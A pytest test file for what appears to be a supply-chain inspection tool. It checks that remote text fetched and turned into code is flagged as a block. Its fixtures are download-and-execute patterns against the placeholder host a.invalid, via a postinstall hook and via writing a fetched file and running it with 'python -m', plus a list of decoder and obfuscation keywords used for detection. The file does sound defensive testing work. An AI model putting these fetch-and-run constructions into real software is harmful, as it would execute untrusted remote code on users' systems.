"""However a text becomes code, and wherever it came from: what a server says is a BLOCK, what stands there is not."""

from pathlib import Path

import pytest

from support.inspection import Files, inspected

WAYS = Path(__file__).parent / "becoming_code"
FETCHED = {
    "a.mjs": "const t = await (await fetch('https://a.invalid/x')).text();\n",
    "a.py": "import requests\nt = requests.get('https://a.invalid/x').text\n",
}
KNOWN = {"a.mjs": "const t = '1';\n", "a.py": "t = '1'\n"}
DECODERS = ("decode", "atob", "gunzip", "charCode", "'hex'", "decompress", "^7", "fromhex", "decrypt", "marshal")
"""Words of what decodes: of a text that is known the same is asked, for what it hides is not read here."""


def ways(name: str) -> list[str]:
    lines = (WAYS / name).read_text().splitlines()
    return [line.replace("\\n", "\n") for line in lines if not line.startswith("#")]


def started(name: str, text: str, begins: str) -> Files:
    imports = [line for line in text.splitlines(keepends=True) if line.startswith("import ") and name == "a.mjs"]
    rest = text if not imports else text.removeprefix(imports[0])
    return {
        "package.json": '{"type": "module", "scripts": {"postinstall": "node a.mjs"}}',
        "setup.py": "import a\n",
        name: "".join(imports[:1]) + begins + rest + "\n",
    }


WRITTEN = [("a.mjs", way) for way in ways("javascript.txt")] + [("a.py", way) for way in ways("python.txt")]


@pytest.mark.parametrize(("name", "way"), WRITTEN)
def test_what_a_server_says_is_followed_into_code(name: str, way: str) -> None:
    assert inspected(started(name, way, FETCHED[name])).verdict == "block"


@pytest.mark.parametrize(("name", "way"), [each for each in WRITTEN if not any(word in each[1] for word in DECODERS)])
def test_a_text_that_stands_there_is_no_block(name: str, way: str) -> None:
    assert inspected(started(name, way, KNOWN[name])).verdict != "block"


@pytest.mark.parametrize("way", ways("javascript_sources.txt"))
def test_whoever_says_it_is_known(way: str) -> None:
    assert inspected(started("a.mjs", way, "")).verdict == "block"


MODULES = {  # what is written and then named to `python -m`, and whether that runs it
    "-m', 'got": True,
    "-m', 'pytest', 'got.py": True,
    "-m', 'json.tool', 'got.py": False,
    "-m', 'sekisho', 'check', '--psbt', 'got.py": False,
}


@pytest.mark.parametrize(("words", "runs"), MODULES.items())
def test_a_module_that_is_started_may_run_a_file_or_read_it(words: str, runs: bool) -> None:
    begins = "import requests\nimport subprocess\nimport sys\n"
    writes = "open('got.py', 'w').write(requests.get('https://a.invalid').text)\n"
    found = inspected({"a.py": f"{begins}{writes}subprocess.run([sys.executable, '{words}'])\n"})
    assert (found.verdict == "block") is runs
